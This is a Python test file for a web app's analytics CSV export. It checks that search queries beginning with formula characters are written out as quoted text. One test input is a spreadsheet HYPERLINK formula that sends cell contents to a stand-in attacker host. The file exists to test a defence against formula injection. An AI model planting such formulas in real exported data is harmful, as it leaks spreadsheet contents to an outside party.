"""CSV exports: a cell that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from servicebay.analytics.reports import Column, Table
from servicebay.core.identity import Role
from tests.factories import PASSWORD, make_offering, make_team, make_user, token_for

PLANTED = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_a_search_planted_as_a_formula_is_exported_as_text(client: TestClient, db: Session) -> None:
    platform = make_team(db, "platform")
    lead = make_user(db, "pat", team=platform, role=Role.LEAD)
    make_offering(db, platform, lead)
    make_user(db, "mallory")
    headers = token_for(db, lead)
    db.commit()
    client.get("/login")
    client.post(
        "/login",
        data={"username": "mallory", "password": PASSWORD, "csrf_token": client.cookies["sb_csrf"]},
    )
    for planted in (PLANTED, "@SUM(1+1)", "+1+1", "-2+3"):
        client.get("/", params={"q": planted})

    exported = client.get(
        "/api/v1/analytics/empty-searches", params={"format": "csv"}, headers=headers
    )

    rows = list(csv.reader(io.StringIO(exported.text, newline="")))
    queries = {row[0] for row in rows[1:]}
    assert queries == {"'" + PLANTED.lower(), "'@sum(1+1)", "'+1+1", "'-2+3"}
    assert all(row[1] == "1" for row in rows[1:]), "counts stay numbers"


def test_numbers_stay_numbers_and_every_formula_start_is_neutralised() -> None:
    table = Table("t", "T", [Column("text", "Text"), Column("number", "Number", numeric=True)], [])
    for cell in ("=1", "+1", "-1", "@a", "\tx", "\rx", "plain", "a\r=1"):
        table.rows.append({"text": cell, "number": -1.5})

    lines = list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1:]

    assert [line[0] for line in lines] == [
        *("'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "plain"),
        "a\r=1",  # quoted: a line break inside a cell starts no row of its own
    ]
    assert {line[1] for line in lines} == {"-1.5"}
